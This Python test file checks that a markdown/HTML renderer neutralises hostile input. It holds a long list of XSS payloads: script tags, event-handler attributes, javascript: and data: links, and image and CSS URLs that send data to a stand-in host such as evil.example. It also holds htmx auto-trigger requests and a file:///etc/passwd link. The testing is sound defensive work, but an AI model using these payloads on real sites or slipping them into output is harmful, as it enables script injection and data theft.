"""Nothing that a model writes can run, load, submit, or point anywhere but to a web or mail address."""

from __future__ import annotations

import random
from urllib.parse import urlsplit

import pytest

from common.markdown import StreamRenderer, render_html, render_plain
from tests.common.html import look

_TAGS = (
    "p h3 h4 h5 h6 ul ol li blockquote pre code em strong s a hr br table thead tbody tr th td span sup sub kbd "
    "div button math mrow mfrac msqrt mroot mstyle msub msup msubsup munder mover munderover mtable mtr mtd mi mn mo "
    "mtext mspace"
)
TAGS = set(_TAGS.split())
ATTRIBUTES = {
    "a": {"href", "rel"},
    "ol": {"start"},
    "span": {"class"},
    "th": {"class"},
    "td": {"class"},
    "p": {"class"},
    "div": {"class", "tabindex"},
    "pre": {"tabindex"},
    "button": {"type", "class"},
    "math": {"display"},
    "mtd": {"class"},
    "mspace": {"width"},
    "mo": {"minsize", "maxsize", "stretchy", "fence", "form", "movablelimits"},
    "mstyle": {"displaystyle", "scriptlevel"},
    "mtable": {"displaystyle"},
    "mover": {"accent"},
}
_CLASSES = "code code-head table-box table-wrap math copy host unseen why task plain left right center"
OWN_CLASSES = set(_CLASSES.split())

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?q=secret'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg/onload=alert`1`>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/)">x</p>',
    '<div hx-get="/settings" hx-trigger="load">x</div>',
    '<div data-hx-post="/runs/1/stop" data-hx-trigger="load">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<form action="https://evil.example"><input name=q><button>Go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<sup onclick=alert(1)>x</sup>",
    "<sup\nonclick=alert(1)>x</sup>",
    "<kbd/onclick=alert(1)>x</kbd>",
    "<br onclick=alert(1)>",
    "</p></div></article><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#x1;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example/x)",
    "[x](/\\evil.example/x)",
    "[x](/sign-out/)",
    "[x](#composer)",
    "[x](?leaf=2)",
    "[x](http:evil.example)",
    "[x](http:///evil.example)",
    "[x](https://)",
    "[x](https://[::1)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:https://evil.example/1)",
    "[x](tel:+1900)",
    "[x](mailto:)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'><img src=x onerror=alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,x>",
    '<https://a.example/"onmouseover=alert(1)>',
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    "![x](/runs/1/stop/)",
    "![x][y]\n\n[y]: https://evil.example/?q=secret",
    "![y]\n\n[y]: https://evil.example/?q=secret",
    "![y][]\n\n> [y]: https://evil.example/?q=secret",
    "![![x](https://evil.example/a)](https://evil.example/b)",
    "[![x](https://evil.example/a)](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.example/a)',
    "![<img src=x onerror=alert(1)>](https://evil.example/a)",
    'https://a.example/"onmouseover=alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```python class=x\n<img src=x onerror=alert(1)>\n```",
    "```\n</code></pre></div><script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    '|a|\n|:-" onclick="x|\n|b|',
    "# <img src=x onerror=alert(1)>",
    "# x {onclick=alert(1)}",
    "- <details open ontoggle=alert(1)>\n  - <svg onload=alert(1)>",
    "> <iframe src=https://evil.example>\n> > <script>alert(1)</script>",
    "[x](https://a.example){onclick=alert(1) id=composer}",
    "<a id=composer name=csrf-token>x</a>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<img src=x onerror=alert(1)\\>",
    "<<script>script>alert(1)<</script>/script>",
    "<pre>code-0</pre>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\class{composer}{x}$ $\\cssId{composer}{x}$",
    "$x_\\text{<img src=x onerror=alert(1)>}$",
    "\\(\\text{</math><script>alert(1)</script>}\\)",
    "$$\\text{</mtext><svg onload=alert(1)>}$$",
    "\\[\\color{red;background:url(//evil.example)}{x}\\]",
    "$\\hspace{-100em}=x$ $\\phantom{secret}=y$",
    "$\\unicode{x3cscript}=1$ $&lt;script&gt;=1$",
    "\\(\\frac{<script>alert(1)</script>\\)",
    "<scr\0ipt>alert(1)</script>",
    "<img\u202e src=x onerror=alert(1)>",
    "\x1b]8;;https://evil.example\x1b\\x",
]


def assert_harmless(html: str) -> None:
    seen = look(html)
    assert seen.balanced, html
    assert set(seen.tags) <= TAGS, html
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES.get(tag, set()), (tag, name, html)
        if name == "href":
            url = urlsplit(value)
            assert url.scheme in ("http", "https", "mailto"), value
            assert url.hostname or (url.scheme == "mailto" and "@" in url.path), value
        if name == "class" and tag != "span":
            assert set(value.split()) <= OWN_CLASSES, value
        if name == "class" and tag == "span":
            assert value in OWN_CLASSES or (len(value) <= 3 and value.isalnum()), value
    links = [value for tag, name, value in seen.attributes if (tag, name) == ("a", "rel")]
    assert links == ["noopener noreferrer nofollow"] * seen.tags.count("a")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_text_is_harmless(payload: str) -> None:
    assert_harmless(str(render_html(payload)))
    assert_harmless(str(render_plain(payload)))


@pytest.mark.parametrize(
    "wrap", ["- {}", "> {}", "| {} |\n|---|\n| {} |", "**{}**", "[{}](https://a.example)", "1. > - {}"]
)
def test_it_is_harmless_inside_anything(wrap: str) -> None:
    for payload in PAYLOADS:
        assert_harmless(str(render_html(wrap.replace("{}", payload.replace("\n", " ")))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_is_harmless_at_every_moment_of_being_written(payload: str) -> None:
    renderer = StreamRenderer()
    for char in "- " + payload:
        renderer.feed(char)
        assert_harmless("".join(renderer.blocks) + renderer.tail)


def test_hostile_texts_glued_together_are_harmless() -> None:
    rng = random.Random(7)
    for _ in range(300):
        text = rng.choice(["", " ", "\n", "\n\n"]).join(rng.sample(PAYLOADS, 5))
        cut = rng.randrange(len(text))
        assert_harmless(str(render_html(text)))
        assert_harmless(str(render_html(text[cut:] + text[:cut])))


def test_only_addresses_with_a_host_become_links() -> None:
    linking = [p for p in PAYLOADS if p.startswith("[x](") and "a" in look(str(render_html(p))).tags]
    assert all(p.startswith("[x](https://a.example") for p in linking), linking
